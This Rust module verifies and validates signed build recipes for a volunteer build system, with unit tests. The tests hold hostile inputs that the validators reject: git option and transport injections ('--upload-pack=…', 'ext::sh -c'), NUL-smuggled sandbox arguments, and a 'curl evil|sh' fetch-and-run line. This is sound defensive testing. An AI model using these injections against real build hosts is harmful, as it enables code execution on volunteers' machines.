//! Recipes (`tbox-recipe/1`): what a project asks volunteers to build, signed by the project.
//!
//! A maintainer writes a TOML recipe and signs its exact bytes offline with the project's key
//! (`openssl dgst -sha256 -sign project.pem recipe.toml | base64 -w0`, the same signature as a
//! report's). The server is only a mirror: a volunteer runs a recipe only if it verifies with a
//! key the volunteer pinned itself. So [`verify_recipe`] checks the signature over the bytes
//! *first* and parses them second, and [`Recipe::check`] holds it to what the volunteer
//! expects (its project, not expired, not older than the last one it ran).

use std::collections::BTreeMap;
use std::time::Duration;

use chrono::{DateTime, Utc};
use serde::Deserialize;
use thiserror::Error;

use crate::keys::{PublicKey, SignatureError};
use crate::limits::ResourceLimits;
use crate::names::check_branch_pattern;
use crate::report::StepKind;
use crate::validate::{ValidationError, name};

/// The `format` of a recipe.
pub const RECIPE_FORMAT: &str = "tbox-recipe/1";

/// Largest recipe accepted, in bytes.
pub const MAX_RECIPE_BYTES: usize = 64 << 10;

/// The highest version a recipe or key list may have: the largest integer JSON readers hold
/// exactly (2^53 − 1), so that `version + 1` never overflows anywhere.
pub const MAX_VERSION: u64 = (1 << 53) - 1;

/// How far ahead a recipe or key list may expire. A longer life would let a mirror that froze
/// keep serving it (and a revoked key's recipe) for years.
pub const MAX_EXPIRY_DAYS: i64 = 400;

/// A project's recipe, parsed and valid.
#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Recipe {
    /// [`RECIPE_FORMAT`].
    pub format: String,
    /// The project it is for.
    pub project: String,
    /// Where the source comes from, the only place: any URL `git clone` takes.
    pub repo: String,
    /// Branch names or globs (`*`, `?`) a build may use.
    pub branches: Vec<String>,
    /// Grows with every publication.
    pub version: u64,
    /// After this, volunteers refuse the recipe (a frozen mirror cannot keep an old one alive).
    pub expires: DateTime<Utc>,
    /// Capabilities a volunteer must have declared.
    #[serde(default)]
    pub requires: Vec<String>,
    /// Whether steps need the network (the volunteer may still refuse).
    #[serde(default)]
    pub network: bool,
    /// Less than the volunteer's limits, if the project wants (never more).
    #[serde(default)]
    pub limits: ResourceLimits,
    /// Globs, relative to the workdir, of files whose SHA-256 the report carries: where two
    /// builders' reports both list one, agreement compares them.
    #[serde(default)]
    pub artifacts: Vec<String>,
    /// The steps, in order.
    #[serde(rename = "step")]
    pub steps: Vec<RecipeStep>,
}

/// Most artifact globs a recipe or project may name.
pub const MAX_ARTIFACT_GLOBS: usize = 20;

/// Checks artifact globs: relative to the workdir, staying in it, and few.
pub fn check_artifact_globs(globs: &[String]) -> Result<(), ValidationError> {
    if globs.len() > MAX_ARTIFACT_GLOBS {
        return Err(ValidationError::new("artifacts", format!("at most {MAX_ARTIFACT_GLOBS} globs")));
    }
    for (i, g) in globs.iter().enumerate() {
        if g.is_empty() || g.len() > 400 || g.starts_with('/') || g.split('/').any(|part| part == "..") {
            return Err(ValidationError::new(
                format!("artifacts[{i}]"),
                "must be a glob relative to the workdir, without '..' (at most 400 bytes)",
            ));
        }
    }
    Ok(())
}

/// One `[[step]]`: the same keys as a volunteer's `[[project.step]]`.
#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct RecipeStep {
    /// Shown on the waterfall.
    pub name: String,
    /// Run with `sh -c` in the workdir (inside the sandbox).
    pub run: String,
    /// Such as `30m`, `2h`, `90s`, `1h30m`.
    #[serde(default)]
    pub timeout: Option<String>,
    /// `"test"`: a failure means tests failed, not that the build is broken.
    #[serde(default)]
    pub kind: Option<StepKind>,
    /// Globs, relative to the workdir, of JUnit XML files to collect after the step.
    #[serde(default)]
    pub junit: Vec<String>,
    /// Run the next steps even if this one fails.
    #[serde(default)]
    pub continue_on_failure: bool,
    /// Environment for this step.
    #[serde(default)]
    pub env: BTreeMap<String, String>,
}

/// Why a recipe is refused. Whatever the reason, nothing of it runs.
#[derive(Debug, Error, PartialEq, Eq)]
pub enum RecipeError {
    /// The signature is not valid base64.
    #[error("the recipe's signature is not valid base64")]
    SignatureNotBase64,
    /// No pinned key (or key reached from it) signed these bytes.
    #[error("the recipe is not signed by a key you trust (pinned, or reached from your pin by rotation)")]
    NotSigned,
    /// Larger than [`MAX_RECIPE_BYTES`].
    #[error("the recipe is {0} bytes; at most {MAX_RECIPE_BYTES} are accepted")]
    TooLarge(usize),
    /// Not UTF-8, or not TOML of the right shape.
    #[error("the recipe is not a valid tbox-recipe/1 TOML file: {0}")]
    Malformed(String),
    /// Well-formed, but breaks a rule (names the field).
    #[error("the recipe is invalid: {0}")]
    Invalid(ValidationError),
    /// Past its `expires`.
    #[error("the recipe expired at {0}; the project must publish a new one")]
    Expired(DateTime<Utc>),
    /// Expires too far ahead.
    #[error(
        "the recipe expires at {0}, more than {MAX_EXPIRY_DAYS} days ahead; the project must publish one that expires sooner"
    )]
    TooLongLived(DateTime<Utc>),
    /// For another project than the one asked for.
    #[error("the recipe is for project {found:?}, not {expected:?}")]
    WrongProject {
        /// The project the volunteer joined.
        expected: String,
        /// What the recipe says.
        found: String,
    },
    /// Older than the last one run.
    #[error("the recipe's version {found} is lower than version {last}, which this machine already ran (a rollback)")]
    Rollback {
        /// The last version run here.
        last: u64,
        /// What the recipe says.
        found: u64,
    },
    /// The same version as the last one run, but other bytes.
    #[error("the recipe claims version {0}, which this machine ran with different contents")]
    Changed(u64),
}

// Not `#[from]`: that would make the validation error the source too, and an error chain
// printed whole (`{:#}`) would say it twice.
impl From<ValidationError> for RecipeError {
    fn from(e: ValidationError) -> Self {
        RecipeError::Invalid(e)
    }
}

impl From<SignatureError> for RecipeError {
    fn from(e: SignatureError) -> Self {
        match e {
            SignatureError::NotBase64 => RecipeError::SignatureNotBase64,
            SignatureError::Mismatch => RecipeError::NotSigned,
        }
    }
}

/// Checks the signature over the exact bytes with each key in turn, then parses and
/// validates them. Returns the recipe and the index of the key that signed it.
pub fn verify_recipe(bytes: &[u8], signature_b64: &str, keys: &[PublicKey]) -> Result<(Recipe, usize), RecipeError> {
    if bytes.len() > MAX_RECIPE_BYTES {
        return Err(RecipeError::TooLarge(bytes.len()));
    }
    let mut outcome = Err(RecipeError::NotSigned);
    for (i, key) in keys.iter().enumerate() {
        match key.verify(bytes, signature_b64) {
            Ok(()) => {
                outcome = Ok(i);
                break;
            }
            Err(SignatureError::NotBase64) => return Err(RecipeError::SignatureNotBase64),
            Err(SignatureError::Mismatch) => {}
        }
    }
    let signer = outcome?;
    Ok((parse_recipe(bytes)?, signer))
}

/// Parses and validates recipe bytes, without looking at any signature: for a maintainer's
/// `recipe sign` and for the server's `PUT` after it has checked the signature.
pub fn parse_recipe(bytes: &[u8]) -> Result<Recipe, RecipeError> {
    if bytes.len() > MAX_RECIPE_BYTES {
        return Err(RecipeError::TooLarge(bytes.len()));
    }
    let text = std::str::from_utf8(bytes).map_err(|e| RecipeError::Malformed(format!("not UTF-8: {e}")))?;
    let recipe: Recipe = toml::from_str(text).map_err(|e| {
        // One line, with where: toml's own rendering is a multi-line snippet of the file.
        let line = e.span().and_then(|s| text.get(..s.start)).map(|t| t.matches('\n').count() + 1);
        RecipeError::Malformed(match line {
            Some(n) => format!("line {n}: {}", e.message().trim()),
            None => e.message().trim().to_owned(),
        })
    })?;
    recipe.validate()?;
    Ok(recipe)
}

/// Whether git may be given `url` for a recipe's source: the network and file transports only,
/// never a helper that runs a program (`ext::`, `fd::`, `<helper>::<address>`).
fn repo_url_allowed(url: &str) -> bool {
    const SCHEMES: &[&str] = &["https://", "http://", "ssh://", "git://", "file://"];
    if SCHEMES.iter().any(|s| url.len() > s.len() && url[..s.len()].eq_ignore_ascii_case(s)) {
        return !url.contains("::");
    }
    // scp style, `[user@]host:path`: a host of letters, digits, dots and dashes before the colon.
    match url.split_once(':') {
        Some((host, path)) => {
            let host = host.rsplit_once('@').map_or(host, |(_, h)| h);
            !host.is_empty()
                && !path.is_empty()
                && !path.starts_with(':')
                && host.chars().all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-')
        }
        None => false,
    }
}

/// Reads `30m`, `2h`, `90s`, `1d`, `2w` or a sum such as `1h30m`: the one duration grammar of
/// recipes, configs and both programs' command lines.
pub fn parse_duration(s: &str) -> Option<Duration> {
    let mut total: u64 = 0;
    let mut num: Option<u64> = None;
    for c in s.trim().chars() {
        if let Some(d) = c.to_digit(10) {
            num = Some(num.unwrap_or(0).checked_mul(10)?.checked_add(u64::from(d))?);
            continue;
        }
        let unit = match c {
            's' => 1,
            'm' => 60,
            'h' => 3600,
            'd' => 86400,
            'w' => 7 * 86400,
            _ => return None,
        };
        total = total.checked_add(num.take()?.checked_mul(unit)?)?;
    }
    (num.is_none() && total > 0).then(|| Duration::from_secs(total))
}

/// Whether `branch` matches `pattern`, where `*` stands for any run of characters and `?`
/// for one.
pub fn branch_matches(pattern: &str, branch: &str) -> bool {
    // The classic greedy match with one backtrack point (the last `*`): linear in practice,
    // never exponential, whatever the pattern.
    let (p, b): (Vec<char>, Vec<char>) = (pattern.chars().collect(), branch.chars().collect());
    let (mut pi, mut bi) = (0, 0);
    let mut star: Option<(usize, usize)> = None;
    while bi < b.len() {
        match p.get(pi) {
            Some('*') => {
                star = Some((pi, bi));
                pi += 1;
            }
            Some(&c) if c == '?' || c == b[bi] => {
                pi += 1;
                bi += 1;
            }
            _ => match star {
                Some((sp, sb)) => {
                    pi = sp + 1;
                    bi = sb + 1;
                    star = Some((sp, sb + 1));
                }
                None => return false,
            },
        }
    }
    p[pi..].iter().all(|&c| c == '*')
}

/// Steps one recipe may have.
const MAX_STEPS: usize = 100;
/// The longest a step may run.
const MAX_TIMEOUT: Duration = Duration::from_secs(7 * 86400);

impl Recipe {
    /// Whether a build of `branch` is allowed.
    pub fn allows_branch(&self, branch: &str) -> bool {
        self.branches.iter().any(|p| branch_matches(p, branch))
    }

    /// What a volunteer holds a verified recipe to: its project, its expiry, and the version
    /// it last ran (`last`: that version and the SHA-256 of its bytes; `digest` is this one's).
    pub fn check(
        &self,
        project: &str,
        now: DateTime<Utc>,
        digest: &str,
        last: Option<(u64, &str)>,
    ) -> Result<(), RecipeError> {
        if self.project != project {
            return Err(RecipeError::WrongProject { expected: project.to_owned(), found: self.project.clone() });
        }
        if now >= self.expires {
            return Err(RecipeError::Expired(self.expires));
        }
        if self.expires > now + chrono::TimeDelta::days(MAX_EXPIRY_DAYS) {
            return Err(RecipeError::TooLongLived(self.expires));
        }
        match last {
            Some((v, _)) if self.version < v => Err(RecipeError::Rollback { last: v, found: self.version }),
            Some((v, seen)) if self.version == v && seen != digest => Err(RecipeError::Changed(v)),
            _ => Ok(()),
        }
    }

    fn validate(&self) -> Result<(), ValidationError> {
        let bad = |field: &str, why: &str| Err(ValidationError::new(field, why.to_owned()));
        if self.format != RECIPE_FORMAT {
            return Err(ValidationError::new("format", format!("must be \"{RECIPE_FORMAT}\", got {:?}", self.format)));
        }
        name("project", &self.project, 64)?;
        if self.repo.is_empty() || self.repo.len() > 1000 || self.repo.chars().any(|c| c.is_control() || c == ' ') {
            return bad("repo", "must be a URL git can clone (one word, at most 1000 bytes)");
        }
        // An option where a URL belongs would make `git clone` run something (--upload-pack=…),
        // and so would git's command transports (`ext::sh -c …`): git runs outside the sandbox.
        if self.repo.starts_with('-') {
            return bad("repo", "must not start with '-'");
        }
        if !repo_url_allowed(&self.repo) {
            return bad(
                "repo",
                "must be an https://, http://, ssh://, git:// or file:// URL, or host:path (scp style)",
            );
        }
        if self.branches.is_empty() {
            return bad("branches", "name at least one branch");
        }
        for (i, b) in self.branches.iter().enumerate() {
            check_branch_pattern(b).map_err(|why| ValidationError::new(format!("branches[{i}]"), why))?;
        }
        if !(1..=MAX_VERSION).contains(&self.version) {
            return bad("version", &format!("must be 1 to {MAX_VERSION}"));
        }
        self.limits.validate("limits")?;
        for (i, r) in self.requires.iter().enumerate() {
            name(&format!("requires[{i}]"), r, 64)?;
        }
        check_artifact_globs(&self.artifacts)?;
        if self.steps.is_empty() {
            return bad("step", "a recipe has at least one [[step]]");
        }
        if self.steps.len() > MAX_STEPS {
            return bad("step", &format!("at most {MAX_STEPS} steps"));
        }
        for (i, s) in self.steps.iter().enumerate() {
            // Counted from 1, as the pages and the volunteer's progress count steps.
            let at = |f: &str| format!("step {}.{f}", i + 1);
            if s.name.is_empty() || s.name.len() > 100 || s.name.chars().any(char::is_control) {
                return bad(&at("name"), "must be 1 to 100 bytes on one line");
            }
            if s.run.trim().is_empty() || s.run.len() > 16 << 10 {
                return bad(&at("run"), "must be a command of at most 16 KiB");
            }
            if let Some(t) = &s.timeout {
                match parse_duration(t) {
                    Some(d) if d <= MAX_TIMEOUT => {}
                    Some(_) => return bad(&at("timeout"), "must be at most 7d"),
                    None => return bad(&at("timeout"), "must be a duration like 30m, 2h or 90s"),
                }
            }
            for (j, g) in s.junit.iter().enumerate() {
                // Relative to the workdir, and staying in it.
                if g.is_empty() || g.starts_with('/') || g.split('/').any(|part| part == "..") {
                    return bad(&at(&format!("junit[{j}]")), "must be a glob relative to the workdir, without '..'");
                }
            }
            if s.run.contains('\0') {
                return bad(&at("run"), "must not contain a NUL character");
            }
            for (key, value) in &s.env {
                let ok = !key.is_empty()
                    && !key.starts_with(|c: char| c.is_ascii_digit())
                    && key.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
                if !ok {
                    return bad(&at("env"), &format!("{key:?} is not a variable name"));
                }
                // No environment can hold one, and the sandbox's options are NUL-separated.
                if value.contains('\0') {
                    return bad(&at(&format!("env.{key}")), "must not contain a NUL character");
                }
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::keys::PrivateKey;

    const GOOD: &str = r#"format   = "tbox-recipe/1"
project  = "demo"
repo     = "https://example.org/demo.git"
branches = ["main", "release-*"]
version  = 7
expires  = "2027-03-01T00:00:00Z"
requires = ["docker"]
network  = false

[[step]]
name = "build"
run  = "make -j2"
timeout = "30m"

[[step]]
name = "test"
run = "make check"
kind = "test"
junit = ["out/**/*.xml"]
env = { CFLAGS = "-O2" }
"#;

    fn now() -> DateTime<Utc> {
        DateTime::parse_from_rfc3339("2026-12-01T00:00:00Z").map(|t| t.to_utc()).unwrap_or_default()
    }

    fn field(text: &str) -> String {
        match parse_recipe(text.as_bytes()) {
            Err(RecipeError::Invalid(e)) => e.field,
            other => format!("not a validation error: {other:?}"),
        }
    }

    #[test]
    fn the_design_example_parses() -> Result<(), RecipeError> {
        let r = parse_recipe(GOOD.as_bytes())?;
        assert_eq!((r.project.as_str(), r.version, r.steps.len()), ("demo", 7, 2));
        assert_eq!(r.steps[1].kind, Some(StepKind::Test));
        assert!(r.allows_branch("main") && r.allows_branch("release-1.2") && !r.allows_branch("feature"));
        Ok(())
    }

    #[test]
    fn errors_name_the_field() {
        let with = |from: &str, to: &str| GOOD.replacen(from, to, 1);
        assert_eq!(field(&with("tbox-recipe/1", "tbox-recipe/2")), "format");
        assert_eq!(field(&with("project  = \"demo\"", "project = \"de mo\"")), "project");
        assert_eq!(field(&with("https://example.org/demo.git", "--upload-pack=touch /tmp/x")), "repo");
        for runs_something in ["ext::sh -c touch% /tmp/pwned", "fd::3", "hg::https://example.org/x", "/srv/git/demo"] {
            assert_eq!(field(&with("https://example.org/demo.git", runs_something)), "repo", "{runs_something}");
        }
        for fine in
            ["git@example.org:demo.git", "ssh://git@example.org/demo", "file:///srv/git/demo", "HTTPS://x.org/d"]
        {
            assert!(parse_recipe(with("https://example.org/demo.git", fine).as_bytes()).is_ok(), "{fine}");
        }
        assert_eq!(field(&with("[\"main\", \"release-*\"]", "[]")), "branches");
        assert_eq!(field(&with("\"release-*\"", "\"rel ease\"")), "branches[1]");
        assert_eq!(field(&with("version  = 7", "version = 0")), "version");
        assert_eq!(field(&with("version  = 7", "version = 9223372036854775807")), "version");
        assert_eq!(field(&with("\"release-*\"", "\"*/../*\"")), "branches[1]");
        assert_eq!(field(&with("network  = false", "network = false\n[limits]\nmemory = \"1KiB\"")), "limits.memory");
        assert_eq!(field(&with("timeout = \"30m\"", "timeout = \"soon\"")), "step 1.timeout");
        assert_eq!(field(&with("timeout = \"30m\"", "timeout = \"30d\"")), "step 1.timeout");
        assert_eq!(field(&with("out/**/*.xml", "../../home/*.xml")), "step 2.junit[0]");
        assert_eq!(field(&with("CFLAGS", "\"BAD NAME\"")), "step 2.env");
        // A NUL would end one of the sandbox's NUL-separated options and start another.
        assert_eq!(field(&with("\"-O2\"", "\"a\\u0000--bind\\u0000/\\u0000/tmp/host\"")), "step 2.env.CFLAGS");
        assert_eq!(field(&with("run  = \"make -j2\"", "run = \"make\\u0000x\"")), "step 1.run");
        assert_eq!(field(&with("run  = \"make -j2\"", "run = \"  \"")), "step 1.run");
    }

    #[test]
    fn malformed_is_not_invalid() {
        for text in ["version = [", "format = \"tbox-recipe/1\"\nsurprise = 1\n", "\u{0}"] {
            assert!(matches!(parse_recipe(text.as_bytes()), Err(RecipeError::Malformed(_))), "{text:?}");
        }
        assert!(matches!(parse_recipe(&[0xff, 0xfe]), Err(RecipeError::Malformed(_))));
        let mut huge = GOOD.to_owned();
        huge.push_str(&"#".repeat(MAX_RECIPE_BYTES));
        assert!(matches!(parse_recipe(huge.as_bytes()), Err(RecipeError::TooLarge(_))));
    }

    #[test]
    fn verified_first_then_parsed() -> Result<(), Box<dyn std::error::Error>> {
        let mut rng = rand_core::OsRng;
        let project = PrivateKey::generate(&mut rng, 2048)?;
        let stranger = PrivateKey::generate(&mut rng, 2048)?;
        let sig = project.sign(GOOD.as_bytes());
        let keys = [stranger.public_key(), project.public_key()];
        let (recipe, signer) = verify_recipe(GOOD.as_bytes(), &sig, &keys)?;
        assert_eq!((recipe.version, signer), (7, 1));
        // A stranger's signature, a tampered byte, garbage: refused before any parsing.
        assert_eq!(
            verify_recipe(GOOD.as_bytes(), &stranger.sign(GOOD.as_bytes()), &keys[1..]),
            Err(RecipeError::NotSigned)
        );
        let tampered = GOOD.replace("make -j2", "curl evil|sh");
        assert_eq!(verify_recipe(tampered.as_bytes(), &sig, &keys), Err(RecipeError::NotSigned));
        assert_eq!(verify_recipe(b"not toml at all", &sig, &keys), Err(RecipeError::NotSigned));
        assert_eq!(verify_recipe(GOOD.as_bytes(), "%%%", &keys), Err(RecipeError::SignatureNotBase64));
        // Signed but invalid bytes are still refused.
        let invalid = GOOD.replace("version  = 7", "version = 0");
        let signed_invalid = project.sign(invalid.as_bytes());
        assert!(matches!(verify_recipe(invalid.as_bytes(), &signed_invalid, &keys), Err(RecipeError::Invalid(_))));
        Ok(())
    }

    #[test]
    fn what_a_volunteer_refuses() -> Result<(), RecipeError> {
        let r = parse_recipe(GOOD.as_bytes())?;
        assert_eq!(r.check("demo", now(), "d7", None), Ok(()));
        assert_eq!(r.check("demo", now(), "d7", Some((6, "d6"))), Ok(()));
        assert_eq!(r.check("demo", now(), "d7", Some((7, "d7"))), Ok(()));
        assert_eq!(r.check("demo", now(), "d7", Some((8, "d8"))), Err(RecipeError::Rollback { last: 8, found: 7 }));
        assert_eq!(r.check("demo", now(), "other", Some((7, "d7"))), Err(RecipeError::Changed(7)));
        assert!(matches!(r.check("other", now(), "d7", None), Err(RecipeError::WrongProject { .. })));
        let later = DateTime::parse_from_rfc3339("2027-03-01T00:00:00Z").map(|t| t.to_utc()).unwrap_or_default();
        assert_eq!(r.check("demo", later, "d7", None), Err(RecipeError::Expired(later)));
        // A recipe that lives for years would let a frozen mirror keep it alive: 400 days at most.
        let early = DateTime::parse_from_rfc3339("2026-01-01T00:00:00Z").map(|t| t.to_utc()).unwrap_or_default();
        assert_eq!(r.check("demo", early, "d7", None), Err(RecipeError::TooLongLived(r.expires)));
        Ok(())
    }

    #[test]
    fn durations_and_globs() {
        assert_eq!(parse_duration("1h30m"), Some(Duration::from_secs(5400)));
        assert_eq!(parse_duration("90s"), Some(Duration::from_secs(90)));
        assert_eq!(parse_duration("2w"), Some(Duration::from_secs(14 * 86400)));
        for bad in ["", "30", "m", "0s", "3x", "99999999999999999999d"] {
            assert_eq!(parse_duration(bad), None, "{bad:?}");
        }
        assert!(branch_matches("release-*", "release-"));
        assert!(branch_matches("*", "anything/at-all"));
        assert!(branch_matches("v?.x", "v1.x"));
        assert!(!branch_matches("main", "main2"));
        assert!(!branch_matches("release-*", "xrelease-1"));
    }
}
